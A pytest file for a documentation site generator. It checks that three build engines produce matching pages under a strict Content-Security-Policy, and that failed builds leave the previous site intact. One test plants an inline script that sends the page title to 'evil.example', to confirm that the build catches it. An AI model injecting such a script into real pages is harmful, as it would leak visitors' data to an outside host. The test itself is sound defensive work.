"""The same sources build with MkDocs, ProperDocs and Zensical into the same site: the same pages,
titles and main text, every page under a policy that allows only the theme's known scripts. With
each engine, a failed build (a mistake in the sources, a script no template wrote) leaves the last
site exactly as it was."""

from __future__ import annotations

import html
import json
import re
from pathlib import Path

import pytest
from markupsafe import escape

from generator.publish import csp
from generator.publish.engines import ENGINES, get_engine

ARTICLE = re.compile(r"<article\b.*?</article>", re.DOTALL)
TITLE = re.compile(r"<title>(.*?)</title>", re.DOTALL)
CSP_META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')


@pytest.fixture(scope="module")
def engine_sites(tmp_path_factory, copy_project_to, build_site) -> dict[str, Path]:
    """One copy of the project, built into a site folder of its own by each engine."""
    root = copy_project_to(tmp_path_factory.mktemp("engines") / "project")
    sites = {}
    for engine in ENGINES:
        result = build_site(root, root / f"site-{engine}", command="generator", engine=engine)
        assert result.ok, f"{engine}:\n{result.output}"
        assert f"Engine: {engine}." in result.output
        sites[engine] = root / f"site-{engine}"
    return sites


def _pages(site: Path) -> dict[str, str]:
    return {
        p.relative_to(site).as_posix(): p.read_text(encoding="utf-8")
        for p in sorted(site.rglob("*.html"))
    }


def _title(page: str) -> str:
    return html.unescape(TITLE.search(page).group(1)).strip()


def _main_text(page: str, html_text) -> str:
    article = ARTICLE.search(page)
    return html_text(article.group(0)) if article else ""


@pytest.mark.parametrize("engine", [e for e in ENGINES if e != "mkdocs"])
def test_every_engine_builds_the_same_pages_titles_and_main_text(engine_sites, engine, html_text):
    reference, other = _pages(engine_sites["mkdocs"]), _pages(engine_sites[engine])
    assert sorted(other) == sorted(reference)
    assert len(reference) >= 25
    for path, page in reference.items():
        assert _title(other[path]) == _title(page), path
        assert _main_text(other[path], html_text) == _main_text(page, html_text), path
    assert _main_text(reference["checker/index.html"], html_text), "the comparison compares text"


@pytest.mark.parametrize("engine", ENGINES)
def test_every_engine_ships_the_checker_form_schema_pdfs_and_nginx_sample(engine_sites, engine):
    site = engine_sites[engine]
    assert re.search(
        r'<script src="[^"]*checker[^"]*\.js"', (site / "checker/index.html").read_text()
    )
    form = (site / "referral-form" / "index.html").read_text(encoding="utf-8")
    assert "<form" in form and re.search(r'<script src="[^"]*referral-form[^"]*\.js"', form)
    assert (site / "forms" / "referral.schema.json").read_text().startswith("{")
    for pdf in ("downloads/one-minute-guide.pdf", "downloads/referral-form-blank.pdf"):
        assert (site / pdf).read_bytes().startswith(b"%PDF-"), pdf
    assert "Content-Security-Policy" in (site / "hosting" / "nginx.conf").read_text()
    # The live preview's reload script is the preview's only, never the published site's.
    assert not (site / "assets" / "preview").exists()
    assert not [p for p, page in _pages(site).items() if "assets/preview/" in page]


@pytest.mark.parametrize("engine", ENGINES)
def test_every_engine_page_allows_only_the_themes_known_inline_scripts(engine_sites, engine):
    for path, page in _pages(engine_sites[engine]).items():
        policies = CSP_META.findall(page)
        assert len(policies) == 1, path
        known, foreign = csp.scan_page(page, get_engine(engine).inline_scripts)
        assert foreign == [], path
        allowed = {s.strip("'") for s in policies[0].split(";")[1].split()[2:]}
        assert allowed == known and known, path
        assert "'unsafe-inline'" not in policies[0]


def test_what_an_engine_cannot_do_is_said_plainly(project_copy, build_site):
    properdocs = build_site(
        project_copy, project_copy / "p", command="generator", engine="properdocs"
    )
    assert properdocs.ok, properdocs.output
    assert "Note: ProperDocs makes the search index with its own search plugin" in properdocs.output
    assert (project_copy / "p" / "search" / "search_index.json").is_file()
    zensical = build_site(project_copy, project_copy / "z", command="generator", engine="zensical")
    assert zensical.ok, zensical.output
    assert "Note: Zensical's search dialog (its own script) falls short of WCAG" in zensical.output


def test_properdocs_search_index_is_one_materials_search_box_reads(engine_sites):
    """Material's box needs its own settings in the index, and reads titles and texts as HTML:
    ProperDocs writes plain text, so "C&F" or "<img>" in a text would become markup."""
    material, proper = (
        json.loads((engine_sites[e] / "search" / "search_index.json").read_text("utf-8"))
        for e in ("mkdocs", "properdocs")
    )
    for setting in ("pipeline", "fields"):
        assert proper["config"][setting] == material["config"][setting], setting
    texts = [doc[key] for doc in proper["docs"] for key in ("title", "text")]
    assert any("&amp;" in text for text in texts), "the comparison compares escaped text"
    for text in texts:
        assert "<" not in text and str(escape(html.unescape(text))) == text, text[:80]


@pytest.mark.parametrize("engine", ENGINES)
def test_a_link_to_a_missing_page_is_a_warning_and_stops_a_strict_build(
    project_copy, build_site, engine, folder_snapshot
):
    """Zensical ignores its own --strict; the generator reads its warnings and stops on them."""
    (project_copy / "docs" / "extra.md").write_text(
        "# Extra\n\n[A page that is not there](missing.md)\n", encoding="utf-8"
    )
    site = project_copy / "site"
    relaxed = build_site(project_copy, site, command="generator", engine=engine)
    assert relaxed.ok, relaxed.output
    assert "extra.md" in relaxed.output
    before = folder_snapshot(site)
    strict = build_site(project_copy, site, command="generator", engine=engine, strict=True)
    assert strict.returncode == 1, strict.output
    assert "extra.md" in strict.output and "Traceback" not in strict.output
    assert "still holds the last website that built" in strict.output
    assert folder_snapshot(site) == before
    if engine == "zensical":
        assert re.search(r"docs/extra\.md:3:\d+: page does not exist", strict.output), strict.output


@pytest.fixture(scope="module")
def built_with_each(tmp_path_factory, copy_project_to, build_site) -> Path:
    """A project copy with a good site per engine, for builds that must fail and leave it."""
    root = copy_project_to(tmp_path_factory.mktemp("engines-fail") / "project")
    for engine in ENGINES:
        result = build_site(root, root / engine / "site", command="generator", engine=engine)
        assert result.ok, result.output
    return root


def _assert_left_as_it_was(site: Path, before, folder_snapshot):
    assert folder_snapshot(site) == before, "the failed build changed the site folder"
    leftovers = sorted(p.name for p in site.parent.iterdir() if p.name.startswith(".site."))
    assert leftovers == [], f"the failed build left {leftovers} behind"


@pytest.mark.parametrize("engine", ENGINES)
def test_a_mistake_in_the_sources_leaves_the_last_site_with_each_engine(
    built_with_each, engine, build_site, edit_file, folder_snapshot
):
    site = built_with_each / engine / "site"
    before = folder_snapshot(site)
    eligibility = built_with_each / "content" / "eligibility.yaml"
    line = eligibility.read_text().splitlines().index("upper_age: 17") + 1
    edit_file(eligibility, "upper_age: 17\n", "upper_age: seventeen\n")
    try:
        result = build_site(built_with_each, site, command="generator", engine=engine)
    finally:
        edit_file(eligibility, "upper_age: seventeen\n", "upper_age: 17\n")
    assert result.returncode == 1, result.output
    assert re.search(rf"content/eligibility\.yaml:{line}:\d+: ", result.output), result.output
    assert "Traceback" not in result.output
    _assert_left_as_it_was(site, before, folder_snapshot)


FOREIGN_SCRIPT = "<script>new Image().src='https://evil.example/?'+document.title</script>"


@pytest.mark.parametrize(
    "command, engine", [("mkdocs", "mkdocs")] + [("generator", e) for e in ENGINES]
)
def test_a_built_page_with_a_foreign_inline_script_fails_the_build(
    built_with_each, command, engine, build_site, folder_snapshot, theme_override
):
    """A script in a project's theme override stands for any markup that reaches a page
    unsanitised; that the build finds it shows, too, that the project's override wins."""
    site = built_with_each / engine / "site"
    before = folder_snapshot(site)
    original = (theme_override.package / "main.html").read_text(encoding="utf-8")
    planted = original + "\n{% block footer %}" + FOREIGN_SCRIPT + "{% endblock %}\n"
    with theme_override(built_with_each, "main.html", planted):
        result = build_site(built_with_each, site, command=command, engine=engine)
    assert not result.ok, result.output
    assert re.search(
        r"site/index\.html:\d+:\d+: an inline script: \"new Image\(\)\.src='https://evil",
        result.output,
    ), result.output
    assert re.search(r"site/checker/q/age/index\.html:\d+:\d+: an inline script", result.output)
    assert "was not published" in result.output
    assert "Traceback" not in result.output
    _assert_left_as_it_was(site, before, folder_snapshot)


# -- python -m generator serve ----------------------------------------------------------------------


@pytest.mark.parametrize("engine", ["mkdocs", "zensical"])
def test_serve_rebuilds_on_a_change_and_keeps_the_last_good_preview(
    project_copy, edit_file, preview_server, http_get, wait_until, engine
):
    log_path = project_copy / "serve.log"
    eligibility = project_copy / "content" / "eligibility.yaml"
    line = eligibility.read_text().splitlines().index("upper_age: 17") + 1
    with preview_server(project_copy, log_path, engine=engine) as base_url:
        page_url = f"{base_url}who-can-be-referred/"
        first = wait_until(lambda: http_get(page_url), 90, "the preview to start")
        assert "aged 17 or below" in first
        policy = CSP_META.search(first).group(1)
        assert "'unsafe-inline'" not in policy, "the preview runs under the published policy"

        edit_file(eligibility, "upper_age: 17\n", "upper_age: seventeen\n")
        wait_until(
            lambda: "preview still shows the last version" in log_path.read_text(),
            60,
            "the preview to report the mistake",
        )
        output = log_path.read_text()
        assert re.search(rf"content/eligibility\.yaml:{line}:\d+: .*whole number", output), output
        assert "Traceback" not in output
        assert "aged 17 or below" in (http_get(page_url) or ""), "the last good page is gone"

        edit_file(eligibility, "upper_age: seventeen\n", "upper_age: 16\n")
        wait_until(lambda: "aged 16 or below" in (http_get(page_url) or ""), 60, "the fixed page")
    assert not [p for p in project_copy.iterdir() if p.name.startswith(".site.")]
